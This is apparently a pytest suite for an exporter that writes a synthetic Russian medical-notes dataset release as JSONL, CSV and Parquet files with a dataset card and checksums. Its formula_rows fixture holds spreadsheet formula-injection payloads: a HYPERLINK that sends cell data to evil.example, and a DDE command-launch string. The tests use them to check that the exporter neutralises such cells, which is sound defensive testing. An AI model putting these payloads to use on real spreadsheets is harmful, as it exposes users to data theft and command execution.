"""The release folder writer (review.export): files read back exactly, the card, checksums, atomicity. No database."""

from __future__ import annotations

import csv
import hashlib
import json
import random
import shutil
import statistics
import subprocess
from pathlib import Path

import datasets
import pyarrow.parquet as pq
import pytest
import yaml
from datasets.exceptions import NonMatchingSplitsSizesError

from generation.services import MEDSYN_CSV_COLUMNS, NoteRow, medsyn_csv_rows
from medsyn_site.core.spreadsheet import NEUTRALISED_NOTE
from review.releases.export import (
    ALL_COLUMNS,
    CSV_COLUMNS,
    PARQUET_SCHEMA,
    ExportedFile,
    ReleaseCard,
    folder_verify,
    release_folder_write,
    size_category,
)

MODEL = "модель | LoRA <s>"


def row_make(idx: int, **changes) -> dict:
    row = {
        "idx": idx, "ICD-10": "J06.9", "generation_model": "smollm2",
        "prompt": "Система: ты врач.\r\nПользователь: напиши жалобы пациента.\nСимптомы: кашель; насморк",
        "prior": "symptoms", "example": True, "example source": "RuMedTop3",
        "response": f'Жалобы на "сухой кашель", «насморк», t 37,8; слабость.\nВторая строка\r\nтретья 🤒 №{idx}',
        "symptoms": "кашель; насморк; слабость", "anamnesis": "Пример: кашель, «мокрота»; 3 дня.",
        "symptoms_recall": 0.6666666666666666, "anamnesis_precision": 0.125,
        "note_id": 100 + idx, "note_version": 1, "origin": "synthetic", "icd_chapter": "X",
        "prompt_variant": "symptoms_example", "checks_passed": True, "words": 14,
    }
    row.update(changes)
    assert tuple(row) == ALL_COLUMNS
    return row


def rows_sample() -> list[dict]:
    return [
        row_make(0),
        row_make(1, symptoms_recall=None, checks_passed=False, generation_model=MODEL, words=60,
                 response="Кашель\u2028с мокротой\x85и одышка, «хрипы»."),  # line breaks only for str.splitlines
        row_make(2, anamnesis="private_data", **{"example source": "private"}, anamnesis_precision=None,
                 prompt="…пример: private_data", words=130),
        row_make(3, **{"ICD-10": "M54.5"}, icd_chapter="XIII", prompt_variant="symptoms", example=False,
                 anamnesis="", prior="NA", checks_passed=None, words=450),
        row_make(4, **{"ICD-10": "I10", "example source": ""}, generation_model="", prompt="", prior="",
                 example=None, symptoms="", anamnesis="", symptoms_recall=None, anamnesis_precision=None,
                 origin="real", icd_chapter="IX", prompt_variant="", checks_passed=None, words=9,
                 response="Давление до 160/100, головная боль в затылке;\r\nшум в ушах."),
    ]


def card_make(**changes) -> ReleaseCard:
    values = {
        "name": "MedSyn-ru | пилот", "version": 3, "description": "Синтетические заметки.", "licence": "cc-by-4.0",
        "language": "ru", "created_at": "2026-02-01T10:00:00Z", "created_by": "curator", "include_real": True,
        "real_data_licence": "Apache-2.0", "filters": {"codes": ["J06", "M54"], "min_words": 5},
        "assessment": {}, "provenance": {"graph_versions": [{"id": 7, "label": "ICD-10 2019 | RuMedBench"}],
                                         "prompt_templates": [{"name": "default-symptoms-ru", "version": 2}],
                                         "model_configs": [{"name": "smollm2", "temperature": 0.7}],
                                         "generation_jobs": [{"id": 11, "notes": 4}]},
    }
    values.update(changes)
    return ReleaseCard(**values)


def write(folder: Path, rows: list[dict], chunk_rows: int = 2, **card_changes):
    calls: list[tuple[int, int]] = []
    export = release_folder_write(folder=folder, rows=iter(rows), total=len(rows), card=card_make(**card_changes),
                                  progress=lambda done, total: calls.append((done, total)), chunk_rows=chunk_rows)
    return export, calls


def csv_form(value) -> str:
    return "" if value is None else str(value)


def readme_header(folder: Path) -> dict:
    text = (folder / "README.md").read_text(encoding="utf-8")
    assert text.startswith("---\n")
    return yaml.safe_load(text.split("---\n", 2)[1])


@pytest.fixture
def released(tmp_path):
    rows = rows_sample()
    export, calls = write(tmp_path / "releases" / "r3", rows)
    return tmp_path / "releases" / "r3", rows, export, calls


@pytest.fixture
def hf_offline(monkeypatch):
    monkeypatch.setenv("HF_DATASETS_OFFLINE", "1")
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.setattr(datasets.config, "HF_HUB_OFFLINE", True)


def test_columns_are_the_medsyn_layout_then_the_extra_columns():
    assert CSV_COLUMNS == MEDSYN_CSV_COLUMNS
    assert ALL_COLUMNS[:12] == CSV_COLUMNS and len(ALL_COLUMNS) == 19
    assert tuple(PARQUET_SCHEMA.names) == ALL_COLUMNS
    assert [str(PARQUET_SCHEMA.field(name).type) for name in ("idx", "example", "symptoms_recall", "response")] == [
        "int64", "bool", "double", "string"]


def test_jsonl_csv_and_parquet_read_back_exactly(released):
    folder, rows, _, _ = released

    text = (folder / "jsonl/train.jsonl").read_text(encoding="utf-8")
    assert len(text.splitlines()) == len(rows)  # U+2028 and U+0085 escaped, so any line splitter agrees
    lines = text.split("\n")
    assert lines[-1] == ""
    records = [json.loads(line) for line in lines[:-1]]
    assert records == rows
    assert all(list(record) == list(ALL_COLUMNS) for record in records)
    assert "«насморк»" in lines[0] and "🤒" in lines[0]  # UTF-8, not \u escapes

    raw = (folder / "csv/train.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    with (folder / "csv/train.csv").open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        assert tuple(reader.fieldnames) == CSV_COLUMNS
        assert list(reader) == [{name: csv_form(row[name]) for name in CSV_COLUMNS} for row in rows]

    parquet = pq.ParquetFile(folder / "data/train.parquet")
    assert parquet.metadata.num_row_groups == 3  # chunk_rows=2 over 5 rows
    assert parquet.schema_arrow.equals(PARQUET_SCHEMA)
    assert pq.read_table(folder / "data/train.parquet").to_pylist() == rows


def test_progress_after_every_chunk_and_at_the_end(released):
    assert released[3] == [(2, 5), (4, 5), (5, 5), (5, 5)]


def test_project_importer_reads_every_csv_row(released):
    folder, rows, _, _ = released

    parsed = list(medsyn_csv_rows(folder / "csv/train.csv"))

    assert all(isinstance(item, NoteRow) for item in parsed), [item for item in parsed if isinstance(item, tuple)]
    assert [(item.text, item.icd_code) for item in parsed] == [(row["response"].strip(), row["ICD-10"]) for row in rows]
    for item, row in zip(parsed, rows, strict=True):
        meta = item.metadata
        assert (meta["example"], meta["symptoms_recall"], meta["anamnesis_precision"]) == (
            row["example"], row["symptoms_recall"], row["anamnesis_precision"])
        assert (meta["prompt"], meta["anamnesis"], meta["example_source"], meta["idx"]) == (
            row["prompt"], row["anamnesis"], row["example source"], str(row["idx"]))


def test_datasets_loads_the_parquet_by_default_and_the_documented_json_and_csv_calls(released, hf_offline, tmp_path):
    folder, rows, _, _ = released
    cache = str(tmp_path / "hf-cache")

    notes = datasets.load_dataset(str(folder), cache_dir=cache)
    train = notes["train"]
    assert list(notes) == ["train"] and train.num_rows == len(rows)
    assert train["response"] == [row["response"] for row in rows]
    assert train.to_list() == rows

    same = datasets.load_dataset("json", data_files=str(folder / "jsonl/train.jsonl"), features=train.features,
                                 cache_dir=cache)["train"]
    assert same.to_list() == rows

    medsyn = datasets.load_dataset("csv", data_files=str(folder / "csv/train.csv"), keep_default_na=False,
                                   na_values=[""], cache_dir=cache)["train"]
    assert medsyn.column_names == list(CSV_COLUMNS)
    assert medsyn["response"] == [row["response"] for row in rows]
    assert medsyn["prior"][3] == "NA"  # only empty fields are missing values
    assert medsyn["example"] == [row["example"] for row in rows]


def test_datasets_checks_the_row_count_the_card_declares(released, hf_offline, tmp_path):
    folder = released[0]
    readme = folder / "README.md"
    readme.write_text(readme.read_text(encoding="utf-8").replace("num_examples: 5", "num_examples: 6"),
                      encoding="utf-8")

    with pytest.raises(NonMatchingSplitsSizesError):
        datasets.load_dataset(str(folder), cache_dir=str(tmp_path / "hf-cache"))


def test_readme_header_is_hub_metadata_with_the_counts(released):
    header = readme_header(released[0])

    assert header["license"] == "cc-by-4.0" and header["language"] == ["ru"]
    assert header["pretty_name"] == "MedSyn-ru | пилот"
    assert set(header["tags"]) == {"medical", "synthetic", "clinical-notes", "icd-10"}
    assert header["task_categories"] == ["text-generation", "text-classification"]
    assert header["size_categories"] == ["n<1K"]
    assert header["configs"] == [{"config_name": "default", "default": True,
                                  "data_files": [{"split": "train", "path": "data/train.parquet"}]}]
    info = header["dataset_info"]
    assert [feature["name"] for feature in info["features"]] == list(ALL_COLUMNS)
    assert info["splits"][0]["name"] == "train" and info["splits"][0]["num_examples"] == 5


def test_readme_body_tables_statistics_and_escaping(released):
    text = (released[0] / "README.md").read_text(encoding="utf-8")
    body = text.split("---\n", 2)[2]

    for heading in ("## Summary", "## Columns", "## Notes per ICD-10 code", "## Notes per ICD-10 chapter",
                    "## Notes per generation model", "## Notes per prompt variant", "## Notes per origin",
                    "## Length in words", "## Automatic checks", "## Assessment", "## Provenance", "## Model licences",
                    "## Filters used", "## Files and checksums"):
        assert f"\n{heading}\n" in body, heading
    assert "| Real data | included, licence Apache-2.0 |" in body
    assert "| Real notes | 1 |" in body
    assert "| J06.9 | 3 | 60.0% |" in body
    assert "| модель \\| LoRA &lt;s&gt; | 1 | 20.0% |" in body
    assert "| 7 | ICD-10 2019 \\| RuMedBench |" in body
    assert "| Passed all checks | 2 of 3 checked (66.7%) |" in body
    assert "| Private example note (`private_data`) | 1 (20.0%) |" in body
    assert "No assessment ratings for the notes in this release." in body
    assert "SHA256SUMS" in body.split("## Files and checksums")[1]
    for line in body.splitlines():  # every table row keeps its column count: pipes in values are escaped
        if line.startswith("| "):
            cells = line.replace("\\|", "").count("|")
            assert cells in (3, 4, 5, 9), line


def test_the_card_names_the_licence_of_every_model_and_says_when_it_is_not_stated(tmp_path):
    models = [{"name": "smollm2", "licence": "Apache-2.0", "licence_url": "https://www.apache.org/licenses/LICENSE-2.0"},
              {"name": "gemma3-270m", "licence": "Gemma Terms of Use", "licence_url": "https://ai.google.dev/gemma/terms"}]
    rows = [*rows_sample(), row_make(5, generation_model="gemma3-270m")]
    write(tmp_path / "r", rows, provenance={**card_make().provenance, "model_configs": models})
    body = (tmp_path / "r" / "README.md").read_text(encoding="utf-8").split("---\n", 2)[2]

    summary = body.split("\n## Summary\n")[1].split("\n## ")[0]
    assert "| Model licences | Apache-2.0; Gemma Terms of Use; not stated |" in summary
    section = body.split("\n## Model licences\n")[1].split("\n## ")[0]
    assert "| model | licence | terms URL |" in section
    assert "| gemma3-270m | Gemma Terms of Use | https://ai.google.dev/gemma/terms |" in section
    assert "| smollm2 | Apache-2.0 | https://www.apache.org/licenses/LICENSE-2.0 |" in section
    # a model named only by notes imported from a MedSyn release file: no configuration, no licence known
    assert "| модель \\| LoRA &lt;s&gt; | not stated | not stated |" in section
    assert section.count("\n| ") == 4  # header and one row per model; real notes name no model


def test_a_model_whose_configuration_states_no_licence_is_not_stated(tmp_path):
    write(tmp_path / "r", [row_make(0)])  # the sample provenance's smollm2 has no licence
    body = (tmp_path / "r" / "README.md").read_text(encoding="utf-8")
    assert "| Model licences | not stated |" in body and "| smollm2 | not stated | not stated |" in body
    write(tmp_path / "real", [row for row in rows_sample() if row["origin"] == "real"],
          provenance={"model_configs": []})
    body = (tmp_path / "real" / "README.md").read_text(encoding="utf-8")
    assert "| Model licences | no model |" in body and "No model wrote notes of this release." in body


def test_assessment_is_rendered_when_present(tmp_path):
    assessment = {"n_ratings": 12, "n_notes_rated": 4, "judged_synthetic_share": 0.41666666,
                  "likert_means": {"реалистичность": 3.25}, "by_study": [{"study": "Пилот", "n": 12, "kappa": 0.31}]}
    write(tmp_path / "r", rows_sample(), assessment=assessment, include_real=False)
    body = (tmp_path / "r" / "README.md").read_text(encoding="utf-8")

    assert "No assessment ratings" not in body
    assert "| n_ratings | 12 |" in body and "| judged_synthetic_share | 0.4167 |" in body
    assert "| реалистичность | 3.25 |" in body
    assert "| study | n | kappa |" in body and "| Пилот | 12 | 0.31 |" in body
    assert "| Real data | not included |" in body


def test_statistics_counts_checks_and_length_quantiles(tmp_path):
    generator = random.Random(5)
    lengths = [0, 24, 25, 50, 100, 200, 399, 400] + [generator.randint(0, 700) for _ in range(95)]  # bin edges too
    rows = [row_make(i, words=lengths[i], checks_passed=[True, False, None][i % 3],
                     symptoms_recall=None if i % 4 else 0.5, origin="real" if i % 10 == 0 else "synthetic",
                     **{"ICD-10": ["J06.9", "M54.5", "I10"][i % 3]})
            for i in range(103)]  # 102 gaps: no quantile falls on a row, so interpolation matters
    stats = write(tmp_path / "r", rows, chunk_rows=7)[0].stats

    assert stats["rows"] == 103
    assert stats["by_code"] == [["J06.9", 35], ["I10", 34], ["M54.5", 34]]  # by count, then code
    assert dict(stats["by_origin"]) == {"real": 11, "synthetic": 92}
    assert stats["checks"] == {"passed": 35, "failed": 34, "unchecked": 34, "pass_rate": 35 / 69}
    assert stats["symptoms_recall"] == {"mean": 0.5, "n": 26}
    quantiles = statistics.quantiles(lengths, n=20, method="inclusive")
    words = stats["words"]
    assert (words["min"], words["max"]) == (min(lengths), max(lengths))
    assert [words[key] for key in ("p10", "p25", "median", "p75", "p90")] == pytest.approx(
        [quantiles[1], quantiles[4], quantiles[9], quantiles[14], quantiles[17]])
    assert words["mean"] == pytest.approx(statistics.fmean(lengths))
    edges = [(0, 25), (25, 50), (50, 100), (100, 200), (200, 400), (400, 10**9)]
    assert [count for _, count in words["histogram"]] == [sum(low <= n < high for n in lengths) for low, high in edges]
    assert json.loads(json.dumps(stats)) == stats


def test_sha256sums_matches_the_files_and_folder_verify_finds_tampering(released):
    folder, _, export, _ = released
    files = export.files

    assert [file.path for file in files] == ["data/train.parquet", "jsonl/train.jsonl", "csv/train.csv", "README.md",
                                             "SHA256SUMS"]
    for file in files:
        content = (folder / file.path).read_bytes()
        assert file == ExportedFile(path=file.path, bytes=len(content), sha256=hashlib.sha256(content).hexdigest())
    assert (folder / "SHA256SUMS").read_text(encoding="utf-8") == "".join(
        f"{file.sha256}  {file.path}\n" for file in files[:-1])
    assert folder_verify(folder) == []
    if shutil.which("sha256sum"):
        subprocess.run(["sha256sum", "--check", "--strict", "--quiet", "SHA256SUMS"], cwd=folder, check=True)

    with (folder / "csv/train.csv").open("a", encoding="utf-8") as handle:
        handle.write("0,X\n")
    (folder / "jsonl/train.jsonl").unlink()
    (folder / "data/extra.parquet").write_bytes(b"x")

    assert folder_verify(folder) == ["jsonl/train.jsonl: missing", "csv/train.csv: checksum mismatch",
                                     "data/extra.parquet: not listed in SHA256SUMS"]
    (folder / "SHA256SUMS").unlink()
    assert folder_verify(folder) == ["SHA256SUMS missing"]


def test_failing_rows_leave_no_folder_and_no_temporary_folder(tmp_path):
    def rows():
        yield from rows_sample()[:3]
        raise RuntimeError("database went away")

    parent = tmp_path / "releases"
    with pytest.raises(RuntimeError, match="database went away"):
        release_folder_write(folder=parent / "r1", rows=rows(), total=5, card=card_make(), chunk_rows=2)

    assert list(parent.iterdir()) == []


def test_a_row_without_every_column_is_refused(tmp_path):
    rows = rows_sample()
    del rows[1]["words"]

    with pytest.raises(ValueError, match=r"row 2: missing columns \['words'\]"):
        write(tmp_path / "r", rows)
    assert list(tmp_path.iterdir()) == []


def test_an_existing_folder_is_replaced_only_by_a_complete_export(tmp_path):
    folder = tmp_path / "r"
    folder.mkdir()
    (folder / "old.txt").write_text("previous attempt")

    with pytest.raises(ValueError):
        write(folder, [{"idx": 0}])
    assert [path.name for path in tmp_path.iterdir()] == ["r"] and (folder / "old.txt").exists()

    write(folder, rows_sample())
    assert [path.name for path in tmp_path.iterdir()] == ["r"] and not (folder / "old.txt").exists()
    assert folder_verify(folder) == []


def test_an_empty_release_is_still_a_valid_folder(tmp_path, hf_offline):
    export, calls = write(tmp_path / "r", [])

    assert calls == [(0, 0)]
    assert export.stats["words"]["median"] is None and export.stats["checks"]["pass_rate"] is None
    assert pq.read_table(tmp_path / "r" / "data/train.parquet").num_rows == 0
    assert list(medsyn_csv_rows(tmp_path / "r" / "csv/train.csv")) == []
    assert readme_header(tmp_path / "r")["dataset_info"]["splits"][0]["num_examples"] == 0
    assert folder_verify(tmp_path / "r") == []


@pytest.mark.parametrize(("n", "bucket"), [(0, "n<1K"), (999, "n<1K"), (1000, "1K<n<10K"), (99_999, "10K<n<100K"),
                                           (100_000, "100K<n<1M"), (2_000_000, "1M<n<10M")])
def test_size_category_uses_the_hub_buckets(n, bucket):
    assert size_category(n) == bucket


def formula_rows() -> list[dict]:
    """Cells a spreadsheet would run: a physician's comment, a note starting with a dash (common in Russian notes)."""
    return [
        row_make(0, response='=HYPERLINK("http://evil.example/?q="&A1, "Открыть")', symptoms="+7 кашель",
                 prompt="@SUM(1+1)*cmd|' /C calc'!A0", anamnesis_precision=-0.25),
        row_make(1, response="- жалобы на кашель;\n- слабость.", generation_model="-модель",
                 anamnesis="\tскрытая формула", prior="\r=1+1"),
    ]


def test_csv_cells_that_would_run_as_formulas_are_neutralised(tmp_path):
    rows = formula_rows()
    write(tmp_path / "r", rows)

    with (tmp_path / "r" / "csv/train.csv").open(encoding="utf-8", newline="") as handle:
        cells = list(csv.DictReader(handle))
    assert cells[0]["response"] == "'" + rows[0]["response"] and cells[0]["symptoms"] == "'+7 кашель"
    assert cells[0]["prompt"] == "'" + rows[0]["prompt"]
    assert cells[1]["response"] == "'- жалобы на кашель;\n- слабость." and cells[1]["generation_model"] == "'-модель"
    assert cells[1]["anamnesis"] == "'\tскрытая формула" and cells[1]["prior"] == "'\r=1+1"
    assert cells[0]["anamnesis_precision"] == "-0.25"  # a number is not a formula: written as it is
    assert cells[0]["ICD-10"] == "J06.9" and cells[0]["idx"] == "0"
    formula_start = tuple("=+-@\t\r")
    assert not [value for cell in cells for value in cell.values() if value.startswith(formula_start)
                and value != "-0.25"]


def test_jsonl_and_parquet_keep_formula_like_cells_exactly(tmp_path):
    rows = formula_rows()
    write(tmp_path / "r", rows)

    lines = (tmp_path / "r" / "jsonl/train.jsonl").read_text(encoding="utf-8").split("\n")[:-1]
    assert [json.loads(line) for line in lines] == rows
    assert pq.read_table(tmp_path / "r" / "data/train.parquet").to_pylist() == rows


def test_the_dataset_card_says_how_csv_cells_are_neutralised(released):
    body = (released[0] / "README.md").read_text(encoding="utf-8").split("---\n", 2)[2]
    assert NEUTRALISED_NOTE in body.split("## Loading")[1].split("## Columns")[0]


def test_a_note_starting_with_a_dash_comes_back_identical_through_the_project_importer(tmp_path):
    rows = formula_rows()
    write(tmp_path / "r", rows)

    parsed = list(medsyn_csv_rows(tmp_path / "r" / "csv/train.csv"))

    assert [item.text for item in parsed] == [row["response"] for row in rows]
    assert [item.metadata["generation_model"] for item in parsed] == [row["generation_model"] for row in rows]
    assert [(item.metadata["symptoms"], item.metadata["prompt"], item.metadata["anamnesis"], item.metadata["prior"])
            for item in parsed] == [(row["symptoms"], row["prompt"], row["anamnesis"], row["prior"]) for row in rows]
